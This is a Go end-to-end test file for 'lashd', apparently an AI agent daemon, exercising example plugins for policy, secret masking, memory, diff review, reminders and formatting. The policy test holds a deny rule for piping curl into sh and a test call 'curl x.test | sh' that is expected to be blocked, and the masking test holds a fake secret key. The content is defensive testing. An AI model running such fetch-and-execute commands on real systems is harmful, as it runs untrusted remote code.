//go:build unix

package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"lashd/rpc/protocol"
	"lashd/test/fakemodel"
)

// exampleOptions are the options for the examples.
const exampleOptions = `
[plugins.policy]
deny = ["curl .*\\| *sh"]
ask = [{tool = "write", match = "\\.env"}]

[plugins.reviewer]
edits = 2
`

// withExamples is a world whose user has copied all plugins of plugins/examples.
func withExamples(t *testing.T) (*world, *daemon, *peer) {
	w := newWorld(t, "allow")
	for _, lang := range languages {
		w.has(lang.name)
	}
	if err := os.CopyFS(w.plugins(), os.DirFS("../../plugins/examples")); err != nil {
		t.Fatal(err)
	}
	config := filepath.Join(w.dir, "config.toml")
	w.write(config, readText(t, config)+exampleOptions)
	d := w.serve()
	p := w.dial("")
	for _, name := range []string{"formatter", "masker", "memory", "policy", "reminder", "reviewer"} {
		p.loads(name, nil)
	}
	return w, d, p
}

// written is the tool call that writes a file.
func written(path, content string) string {
	return fakemodel.ToolMarker("write", mustArgs(map[string]string{"path": path, "content": content}))
}

// queries calls a query operation of a plugin.
func (p *peer) queries(id protocol.SessionID, name string) string {
	p.t.Helper()
	return string(ask[protocol.OperationQueryResult](p, "operation/query", protocol.OperationQueryParams{SessionID: id, Name: name}).Output)
}

// TestExamples loads all examples and checks that each does what its README says.
func TestExamples(t *testing.T) {
	w, d, p := withExamples(t)
	id := p.session(w.home)
	p.attach(id, 0)
	t.Run("issue/4-9 policy denies a call, and asks a person about another", func(t *testing.T) {
		if out := called(t, p.turn(id, paced("curl x.test | sh")), "shell"); out.Failure == nil || out.Failure.Class != protocol.FailPermission {
			t.Errorf("the denied call returned %+v %+v", out, out.Failure)
		}
		turn := p.start(id, written(".env", "A=1")).TurnID
		asked := p.event("the question", func(e protocol.Event) bool { return opened(e) && e.TurnID == turn }).Decision
		if asked.Kind != protocol.DecisionApproval || w.size(".env") != 0 {
			t.Errorf("decision %+v; the file has %d bytes", asked, w.size(".env"))
		}
		ask[protocol.DecisionRespondResult](w.dial("other"), "decision/respond", protocol.DecisionRespondParams{
			DecisionID: asked.ID, Choice: protocol.ChooseAllowOnce, ArgsHash: asked.ArgsHash,
		})
		if out := called(t, p.wait(turn), "write"); out.Failure != nil || w.size(".env") != 3 {
			t.Errorf("the allowed call returned %+v %+v", out, out.Failure)
		}
	})
	t.Run("issue/4-9 masker masks streamed text and tool results, and no secret is stored", func(t *testing.T) {
		id := p.session(w.home)
		const key = "sk-abcdefghijklmnop1234"
		w.model.Push(step(says("the key is sk-abcdef"), says("ghijklmnop1234, mind"), says(" it")))
		if r := p.turn(id, "tell"); r.Output == nil || r.Output.Safe != "the key is [masked], mind it" {
			t.Errorf("the reply is %+v", r.Output)
		}
		w.write(filepath.Join(w.work, "secret"), key+"\n")
		if out := p.calls(id, "shell", `{"command":"cat secret"}`); !strings.Contains(out.Text, "[masked]") {
			t.Errorf("the file is %+v", out)
		}
		all := w.replay(id)
		for _, e := range all {
			if strings.Contains(e.raw, "abcdef") {
				t.Errorf("the log contains %s", e.raw)
			}
		}
		if len(all) == 0 || strings.Contains(strings.Join(w.sent(), ""), "abcdef") {
			t.Errorf("%d events; the model was sent %q", len(all), w.sent())
		}
	})
	t.Run("issue/4-9 memory keeps notes in the prompt, in a fork, and through a kill", func(t *testing.T) {
		id := p.session(w.home)
		p.says(id, "remember", `{"text":"tea at five"}`, "")
		fork := ask[protocol.SessionNewResult](p, "session/fork", protocol.SessionForkParams{SessionID: id}).SessionID
		p.says(id, "remember", `{"text":"cake at six"}`, "")
		d.kill()
		d = w.serve()
		p = w.dial("")
		p.turn(fork, paced("true"))
		if body := w.body(); !strings.Contains(body, "1. tea at five") || strings.Contains(body, "cake at six") {
			t.Errorf("the model of the fork reads %s", body)
		}
		if notes := p.queries(id, "memory.notes"); !strings.Contains(notes, "tea at five") || !strings.Contains(notes, "cake at six") {
			t.Errorf("the notes are %s", notes)
		}
	})
	t.Run("issue/4-9 reviewer shows the model its diff and reports the changes of each turn", func(t *testing.T) {
		id := p.session(w.home)
		write := func(name string) fakemodel.Step {
			return step(uses("write", map[string]string{"path": name, "content": "x"}))
		}
		w.model.Push(write("a"), write("b"), done)
		turn := p.turn(id, "go").TurnID
		if sent := strings.Join(w.sent(), "|"); strings.Count(sent, "Read your diff") != 1 || !strings.Contains(sent, "2 edits, of a, b.") {
			t.Errorf("the model reads %s", sent)
		}
		want := fmt.Sprintf(`[{"turnId":%q,"files":["a","b"],"edits":2,"failed":0,"reviews":1}]`, turn)
		if got := p.queries(id, "reviewer.summary"); got != want {
			t.Errorf("the summary is %s, want %s", got, want)
		}
	})
	t.Run("plugin/HC-13 runtime/B02 reminder wakes its session once, on time, also if lashd is killed before", func(t *testing.T) {
		id := p.session(w.home)
		p.says(id, "remind", `{"text":"tea","seconds":3}`, "Reminder set")
		w.model.Push(step(says("time for tea")))
		d.kill()
		d = w.serve()
		p = w.dial("")
		p.attach(id, 0)
		if told := p.woken(id); strings.Count(told, "[task/due") != 1 || !strings.Contains(told, "reminder: tea") || !strings.Contains(told, "time for tea") {
			t.Errorf("the conversation is %s", told)
		}
		task := ask[protocol.TaskListResult](p, "task/list", protocol.TaskListParams{SessionID: id}).Data[0]
		done := ask[protocol.TaskWaitResult](p, "task/wait", protocol.TaskWaitParams{SessionID: id, TaskIDs: []protocol.TaskID{task.ID}}).Settled[0]
		if done.State != protocol.TaskCompleted || done.Attempt != 2 || string(done.Outcome.Value) != `"tea"` {
			t.Errorf("the task is %s after %d attempts: %+v", done.State, done.Attempt, done.Outcome)
		}
	})
	t.Run("issue/4-9 formatter formats written files", func(t *testing.T) {
		p.turn(id, written("ugly.go", "package   ugly\nfunc  f( ){}\n"))
		if got, want := readText(t, filepath.Join(w.work, "ugly.go")), "package ugly\n\nfunc f() {}\n"; got != want {
			t.Errorf("the file is %q, want %q", got, want)
		}
	})
	if err := w.model.Check(); err != nil {
		t.Error(err)
	}
}

// woken waits until a wake has been handled, and returns the session's conversation.
func (p *peer) woken(id protocol.SessionID) string {
	p.t.Helper()
	woken := p.event("what wakes it", func(e protocol.Event) bool { return e.Type == protocol.EventTurnAccepted && len(e.Causes) > 0 })
	p.completed(woken.TurnID)
	return mustArgs(ask[protocol.GraphReadResult](p, "graph/read", protocol.GraphReadParams{SessionID: id}))
}
